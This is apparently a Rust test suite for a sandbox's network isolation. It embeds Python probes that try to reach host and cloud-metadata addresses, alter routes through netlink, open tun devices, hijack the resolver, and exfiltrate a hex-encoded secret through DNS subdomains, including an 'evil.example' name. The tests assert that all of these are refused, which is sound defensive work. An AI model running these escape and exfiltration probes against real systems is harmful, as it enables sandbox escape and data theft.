//! Ways out of the session's network, and names as a channel.

use std::{
    net::{IpAddr, Ipv4Addr, TcpListener, UdpSocket},
    sync::Arc,
};

use libtest_mimic::Trial;
use remit_testkit::{Origin, Reply, Site};
use serde_json::json;

use crate::world::{World, trial};

/// An address of the host's own network, and the one listed name that leads there.
pub const LAN: IpAddr = IpAddr::V4(Ipv4Addr::new(10, 77, 0, 2));
pub const LISTED: &str = "listed.example";

pub fn trials() -> Vec<Trial> {
    vec![
        trial("net_direct_to_host_services", direct),
        trial("net_own_addresses_and_routes", own),
        trial("dns_unlisted_names_types_and_data", names),
    ]
}

pub fn listed(world: World, port: u16) -> World {
    world.with(|manifest, _| {
        manifest.host_rule(json!({"host": LISTED, "ports": [port], "addresses": ["10.77.0.0/16"]}))
    })
}

/// Services of the host on every kind of address; whatever arrives is an escape.
struct Host {
    port: u16,
    streams: Vec<TcpListener>,
    datagrams: Vec<UdpSocket>,
}

impl Host {
    fn new() -> Self {
        let first = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = first.local_addr().unwrap().port();
        let lan = TcpListener::bind((LAN, port)).unwrap();
        let mut own = Self { port, streams: vec![first, lan], datagrams: Vec::new() };
        own.datagrams.push(UdpSocket::bind(("127.0.0.1", port)).unwrap());
        own.datagrams.push(UdpSocket::bind((LAN, port)).unwrap());
        // Machines without IPv6 have no such service.
        own.streams.extend(TcpListener::bind(("::1", port)));
        own
    }

    #[track_caller]
    fn saw_nothing(&self) {
        for one in &self.streams {
            one.set_nonblocking(true).unwrap();
            assert!(one.accept().is_err(), "{one:?} was reached");
        }
        for one in &self.datagrams {
            one.set_nonblocking(true).unwrap();
            assert!(one.recv_from(&mut [0; 1500]).is_err(), "{one:?} got a datagram");
        }
    }
}

const CONNECT: &str = r#"
def to(address, family=socket.AF_INET, kind=socket.SOCK_STREAM, protocol=0):
    one = socket.socket(family, kind, protocol); one.settimeout(5); one.connect(address); return one
"#;

fn direct() {
    let host = Host::new();
    let web = Origin::plain(&format!("{LAN}:8080"), Site::Function(Arc::new(|_| Reply::ok("web"))));
    let world = listed(World::new("net-direct"), 8080);
    let report = world.attack(&format!(
        r#"{CONNECT}
import urllib.request
PORT = {port}
attempt("permitted name", lambda: refuse(urllib.request.urlopen("http://{LISTED}:8080/", timeout=10).read() != b"web"))
V4 = ("127.0.0.1", "{LAN}", "0.0.0.0", "127.1.2.3", "169.254.169.254", "10.0.2.2", "10.0.2.3", "192.168.0.1", "8.8.8.8", "255.255.255.255", "224.0.0.1", "100.100.100.200", "198.18.0.1")
V6 = ("::1", "::", "::ffff:127.0.0.1", "::ffff:{LAN}", "::127.0.0.1", "64:ff9b::7f00:1", "fd00:ec2::254", "fe80::1", "ff02::1", "2001:4860:4860::8888")
for address in V4:
    for port in (PORT, 80, 443, 22, 8080):
        if (address, port) != ("198.18.0.1", 53):
            attempt(f"attack {{address}}:{{port}}", lambda: to((address, port)))
    attempt(f"attack mptcp {{address}}", lambda: to((address, PORT), protocol=262))
    attempt(f"attack fast open {{address}}", lambda: socket.socket().sendto(b"data", 0x20000000, (address, PORT)))
    # A datagram is sent into nothing without an error: what counts is what the host sees.
    for send in (lambda: socket.socket(2, 2).sendto(b"data", (address, PORT)), lambda: to((address, PORT), kind=2).send(b"data"),
                 lambda: socket.socket(2, 2, 136).sendto(b"data", (address, PORT))):
        try: send()
        except OSError: pass
for address in V6:
    attempt(f"attack {{address}}", lambda: to((address, PORT), socket.AF_INET6))
    try: socket.socket(10, 2).sendto(b"data", (address, PORT))
    except OSError: pass
attempt("attack listed name, other port", lambda: to(("{LISTED}", PORT)))
attempt("attack listed name, datagram", lambda: refuse(not to((socket.gethostbyname("{LISTED}"), 8080), kind=2).send(b"x") or not to((socket.gethostbyname("{LISTED}"), 8080), kind=2).recv(1)))
for host in ("127.0.0.1", "{LAN}", "2130706433", "0x7f000001", "localhost"):
    attempt("attack web " + host, lambda: urllib.request.urlopen(f"http://{{host}}:{{PORT}}/", timeout=5))
"#,
        port = host.port
    ));
    report.works(&["permitted name"]).all_refused("attack");
    report.recorded("connect", "denied", "169.254.169.254").recorded(
        "http_request",
        "allowed",
        LISTED,
    );
    assert_eq!(web.seen_lines().len(), 1);
    host.saw_nothing();
}

fn own() {
    let world = listed(World::new("net-own"), 8080);
    let report = world.attack(&format!(
        r#"{CONNECT}
def netlink(kind, flags, body):
    one = socket.socket(16, 3, 0); one.bind((0, 0))
    one.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
    code = struct.unpack("=i", one.recv(4096)[16:20])[0]
    if code: raise OSError(-code, "")
def server():
    one = socket.socket(); one.bind(("127.0.0.1", 80)); one.listen(); to(("127.0.0.1", 80))
attempt("permitted low port", server)
attempt("permitted routes", lambda: socket.if_nameindex())
attempt("attack add route", lambda: netlink(24, 0x405, bytes([2, 0, 0, 0, 254, 3, 0, 1, 0, 0, 0, 0])))
attempt("attack delete route", lambda: netlink(25, 5, bytes([2, 15, 0, 0, 255, 3, 254, 2, 0, 0, 0, 0]) + struct.pack("HH4B", 8, 1, 198, 18, 0, 0)))
attempt("attack add link", lambda: netlink(16, 0x405, struct.pack("=BxHiII", 0, 0, 0, 1, 1)))
attempt("attack add address", lambda: netlink(20, 0x405, bytes([2, 8, 0, 0, 1, 0, 0, 0]) + struct.pack("HH4B", 8, 2, 10, 0, 0, 1)))
attempt("attack bring down", lambda: fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sh14x", b"lo", 0)))
attempt("attack tun", lambda: os.open("/dev/net/tun", os.O_RDWR))
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    def take():
        one = socket.socket(2, kind)
        for option in (2, 15): one.setsockopt(1, option, 1)
        one.bind(("198.18.0.1", 53))
    attempt(f"attack take the resolver {{int(kind)}}", take)
attempt("attack transparent", lambda: socket.socket().setsockopt(0, 19, 1))
attempt("attack device", lambda: to(("10.77.0.2", 8080), socket.AF_INET))
"#
    ));
    report.works(&["permitted low port", "permitted routes"]).all_refused("attack");
}

fn names() {
    let world = listed(World::new("dns"), 8080);
    let report = world.attack(&format!(
        r#"{CONNECT}
def query(name, kind=1, klass=1, flags=0x100, tcp=False, server="198.18.0.1"):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode("latin1").split(b".")) + b"\0"
    message = struct.pack(">HHHHHH", 7, flags, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, klass)
    if tcp:
        one = to((server, 53)); one.sendall(struct.pack(">H", len(message)) + message); reply = one.recv(4096)[2:]
    else:
        one = to((server, 53), kind=socket.SOCK_DGRAM); one.send(message); reply = one.recv(4096)
    code, answers = reply[3] & 15, struct.unpack(">H", reply[6:8])[0]
    if code or not answers: raise OSError(2, "no answer")
attempt("permitted", lambda: query("{LISTED}"))
attempt("permitted tcp", lambda: query("{LISTED}", tcp=True))
attempt("permitted libc", lambda: socket.gethostbyname("{LISTED}"))
secret = "636f6e666964656e7469616c"
for tcp in (False, True):
    for name in ("unlisted.example", secret + ".{LISTED}", secret + ".unlisted.example", "x.{LISTED}", "{LISTED}.evil.example", "example", "com",
                 "localhost.{LISTED}", "listed\0.example", "metadata.google.internal", "2.0.77.10.in-addr.arpa", "version.bind", "wpad", "_ldap._tcp.{LISTED}"):
        for kind in (1, 28, 16, 255):
            attempt(f"attack {{name!r}} {{kind}} {{tcp}}", lambda: query(name, kind, tcp=tcp))
    for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 43, 64, 65, 99, 249, 250, 251, 252, 256, 65280):
        attempt(f"attack type {{kind}} {{tcp}}", lambda: query("{LISTED}", kind, tcp=tcp))
    for klass in (3, 4, 254, 255):
        attempt(f"attack class {{klass}} {{tcp}}", lambda: query("{LISTED}", 1, klass, tcp=tcp))
    for flags in (0x2100, 0x2900, 0x8180):
        attempt(f"attack flags {{flags}} {{tcp}}", lambda: query("{LISTED}", flags=flags, tcp=tcp))
for server in ("127.0.0.53", "8.8.8.8", "10.0.2.3", "127.0.0.1"):
    attempt("attack server " + server, lambda: query("{LISTED}", server=server))
"#
    ));
    report.works(&["permitted", "permitted tcp", "permitted libc"]).all_refused("attack");
    report.recorded("resolve_name", "denied", "unlisted.example");
}
